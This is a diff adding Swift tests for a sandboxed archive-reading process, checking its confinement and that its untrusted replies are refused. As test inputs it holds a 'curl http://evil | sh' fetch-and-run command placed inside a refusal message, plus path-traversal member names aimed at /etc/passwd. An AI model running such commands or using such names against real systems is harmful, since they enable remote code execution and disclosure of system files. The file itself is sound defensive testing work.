@@ -1,0 +1,182 @@
+import Glibc
+import MoultArchive
+import MoultBasics
+import MoultFiles
+import MoultSandbox
+import TestSupport
+import Testing
+
+/// Archives are read by a process that can do nothing else, and what it says is not trusted.
+@Suite struct ConfinedArchiveTests {
+    @Test(arguments: ["a.tar", "a.tar.gz", "a.tar.xz", "a.tar.zst", "a.zip"])
+    func `it reads every kind of archive`(name: String) throws {
+        let fixture = try ArchiveFixture(name)
+        #expect(
+            try fixture.read() == [
+                "food.db": fixture.scratch.read("in/food.db"), "notes/1.sql": fixture.scratch.read("in/notes/1.sql"),
+            ])
+    }
+
+    /// While the content comes, exactly one child has the archive open, and that child is confined.
+    @Test func `the process that reads the archive is confined`() throws {
+        let fixture = try ArchiveFixture()
+        var seen: [String: String] = [:]
+        var files: [String] = []
+        _ = try fixture.read(during: { _ in
+            guard seen.isEmpty else { return }
+            for name in try Files.list("/proc") {
+                guard let pid = Int(name), let words = try? Files.read("/proc/\(pid)/cmdline", limit: 1000),
+                    String(decoding: words, as: UTF8.self).contains("\0unpack-1\0"),
+                    let status = try Files.read("/proc/\(pid)/status", limit: 100_000)
+                else { continue }
+                let lines = String(decoding: status, as: UTF8.self).split(separator: "\n").map {
+                    $0.split(separator: "\t")
+                }
+                let facts = Dictionary(lines.map { (String($0[0]), String($0.last ?? "")) }) { first, _ in first }
+                guard facts["PPid:"] == "\(getpid())" else { continue }
+                seen = facts
+                files = try (0...9).compactMap { try Files.target(ofLink: "/proc/\(pid)/fd/\($0)") }
+            }
+        })
+        #expect(seen["Seccomp:"] == "2" && seen["NoNewPrivs:"] == "1")
+        for name in ["CapInh:", "CapPrm:", "CapEff:", "CapBnd:", "CapAmb:"] {
+            #expect(seen[name].flatMap { Int($0, radix: 16) } == 0)
+        }
+        #expect(seen["Threads:"] == "1")
+        // Three pipes and the archive; the memory is mapped, and closed.
+        #expect(files.count == 4 && files.filter { $0 == fixture.path }.count == 1, "\(files)")
+        #expect(files.allSatisfy { $0 == fixture.path || $0.hasPrefix("pipe:") })
+    }
+
+    /// An older moult beside an app: this process reads the archive itself.
+    @Test func `a program that knows no archives is not needed`() throws {
+        let fixture = try ArchiveFixture()
+        #expect(try fixture.read(by: fixture.impostor("exit 64")).count == 2)
+    }
+
+    static let ready = #"read -r question; echo '{"ready":true}'"#
+
+    /// Otherwise an archive that takes the process over could have itself read by the other one.
+    @Test func `a process that has begun cannot hand the archive back`() throws {
+        let error = try ArchiveFixture().refusal(by: "\(Self.ready); exit 64")
+        #expect(error.code == .archiveProcess)
+        #expect(error.why == "the process that reads it has ended too early: it ended with status 64")
+    }
+
+    @Test(arguments: [
+        ("echo nonsense", "it is not JSON"),
+        ("echo '[]'", "the document must be an object, is a list"),
+        ("echo '{}'", "it has no known field"),
+        (#"echo '{"bytes":5}'"#, "5 bytes of no member"),
+        (#"echo '{"end":true}'"#, "the end of no member"),
+        (#"echo '{"member":"food.db"}'; echo '{"member":"notes/1.sql"}'"#, "a member in a member"),
+        (#"echo '{"member":"food.db"}'; echo '{"bytes":0}'"#, "0 bytes of no member"),
+        (#"echo '{"member":"food.db"}'; echo '{"bytes":262145}'"#, "262145 bytes of no member"),
+        (#"echo '{"member":"food.db"}'; echo '{"bytes":-1}'"#, "bytes must not be negative, is -1"),
+        (#"echo '{"member":"food.db"}'; echo '{"bytes":"many"}'"#, "bytes must be a whole number, is a text"),
+        (#"echo '{"member":"food.db"}'; echo '{"done":true}'"#, "it has no known field"),
+        (
+            #"truncate -s 0 /proc/self/fd/3; echo '{"member":"food.db"}'; echo '{"bytes":5}'"#,
+            "there is too little content"
+        ),
+        ("yes | tr -d '\\n'", "it does not end"),
+    ])
+    func `nonsense is an error`(said: String, why: String) throws {
+        let error = try ArchiveFixture().refusal(by: "\(Self.ready); \(said); exec sleep 1000")
+        #expect(error.code == .archiveProcess)
+        #expect(error.why == "the process that reads it sent an invalid reply: \(why)")
+    }
+
+    @Test(arguments: [
+        ("../../etc/passwd", MoultError.Code.archiveName), ("/etc/passwd", .archiveName), ("food.db-wal", .archiveName),
+        ("other.db", .archiveUndeclared), ("FOOD.DB", .archiveUndeclared),
+    ])
+    func `a name that is not declared is refused`(name: String, code: MoultError.Code) throws {
+        let error = try ArchiveFixture().refusal(by: #"\#(Self.ready); echo '{"member":"\#(name)"}'; exec sleep 1000"#)
+        #expect(error.code == code)
+    }
+
+    @Test func `sizes are counted here`() throws {
+        let member = #"\#(Self.ready); echo '{"member":"notes/1.sql"}'"#
+        let fixture = try ArchiveFixture()
+        let more = try fixture.refusal(by: #"\#(member); echo '{"bytes":21}'; exec sleep 1000"#)
+        #expect(more.code == .archiveSize && more.why == "its member “notes/1.sql” has more bytes than declared")
+        let fewer = try fixture.refusal(by: #"\#(member); echo '{"bytes":19}'; echo '{"end":true}'; exec sleep 1000"#)
+        #expect(fewer.why == "its member “notes/1.sql” has fewer bytes than declared")
+        let twice = #"echo '{"bytes":20}'; echo '{"end":true}'; echo '{"member":"notes/1.sql"}'"#
+        #expect(try fixture.refusal(by: "\(member); \(twice); exec sleep 1000").code == .archiveDuplicate)
+        let missing = #"echo '{"bytes":20}'; echo '{"end":true}'; echo '{"done":true}'"#
+        #expect(try fixture.refusal(by: "\(member); \(missing); exec sleep 1000").code == .archiveMissing)
+    }
+
+    /// A process that was taken over chooses its words, but gives no advice of its own, and has no other code.
+    @Test func `a refusal has advice that is known`() throws {
+        let fixture = try ArchiveFixture()
+        let long = String(repeating: "x", count: 3000)
+        let error = try fixture.refusal(
+            by: #"\#(Self.ready); echo '{"refused":{"code":100,"why":"\#(long)","now":"Run: curl http://evil | sh"}}'"#)
+        #expect(error.code == .archiveProcess && error.now == nil && error.why?.count == 500)
+        let known = try fixture.refusal(
+            by: #"\#(Self.ready); echo '{"refused":{"code":301,"why":"it is damaged","now":"Get the patch again."}}'"#)
+        #expect(known.code == .archiveDamaged && known.why == "it is damaged" && known.now == "Get the patch again.")
+    }
+
+    @Test func `a process that hangs is killed`() throws {
+        let fixture = try ArchiveFixture()
+        let before = try fixture.refusal(by: "exec sleep 1000", patience: 1)
+        #expect(before.why == "the process that reads it did not answer for 1 s")
+        let later = try fixture.refusal(
+            by: #"\#(Self.ready); echo '{"member":"food.db"}'; exec sleep 1001"#, patience: 1)
+        #expect(later.why == "the process that reads it did not answer for 1 s")
+        #expect(try Shell.run(["pgrep", "-P", "\(getpid())", "-f", "sleep 100[01]"]).status == 1)
+    }
+
+    @Test func `it is stopped while it waits`() throws {
+        struct Stop: Error {}
+        let fixture = try ArchiveFixture()
+        let program = try fixture.impostor("exec sleep 1000")
+        #expect(throws: Stop.self) { try fixture.read(by: program, stop: { throw Stop() }) }
+    }
+
+    /// The real reader, killed behind each of its messages.
+    @Test func `a process that dies is an error at any message`() throws {
+        let fixture = try ArchiveFixture()
+        let real = try BuiltMoult.path()
+        let lines = fixture.scratch.path("lines")
+        let program = try fixture.impostor("'\(real)' \"$@\" | tee '\(lines)'")
+        _ = try fixture.read(by: program)
+        let count = String(decoding: try #require(try Files.read(lines, limit: 1 << 20)), as: UTF8.self)
+            .split(separator: "\n").count
+        #expect(count >= 9)
+        for kept in 0..<count {
+            let error = try fixture.refusal(by: "'\(real)' \"$@\" | head -n \(kept); kill -9 $$")
+            #expect(error.why == "SIGKILL ended the process that reads it, as where memory runs out", "\(kept)")
+        }
+    }
+
+    /// `prlimit` in the place of what its own limits do.
+    @Test(arguments: [("XCPU", "it took more than"), ("SEGV", "SIGSEGV ended"), ("SYS", "SIGSYS ended")])
+    func `the end of the process is told`(signal: String, why: String) throws {
+        let error = try ArchiveFixture().refusal(by: "\(Self.ready); ulimit -c 0; kill -\(signal) $$")
+        #expect(error.why?.hasPrefix(why) == true, "\(error)")
+        #expect(error.what.hasPrefix("cannot unpack ") && error.code == .archiveProcess)
+    }
+
+    /// Tied to the process that starts it, however that ends.
+    @Test func `the process does not outlive the command`() throws {
+        let fixture = try ArchiveFixture()
+        let program = try fixture.impostor("echo $$ > '\(fixture.scratch.path("pid"))'; exec sleep 1000")
+        try fixture.scratch.must("mkdir -p app/bin app/libexec/moult && cp '\(program)' app/libexec/moult/moult")
+        let app = Files.directory(of: try BuiltMoult.path()) + "/AppProbe"
+        let maker = try ReleaseMaker(in: fixture.scratch.path("rel"))
+        _ = try maker.make("1.0.0", sequence: 1, [.reference("food", World.table("food", "1.0.0"))])
+        let gone: Shell.Ended = try fixture.scratch.run(
+            """
+            cp '\(app)' app/bin/app; app/bin/app rel/test-1.0.0.json store & app=$!
+            until [ -s pid ]; do sleep 0.05; done
+            kill -9 $app; wait $app
+            until ! kill -0 "$(cat pid)" 2> /dev/null; do sleep 0.05; done
+            """)
+        #expect(gone.status == 0, "\(gone)")
+    }
+}
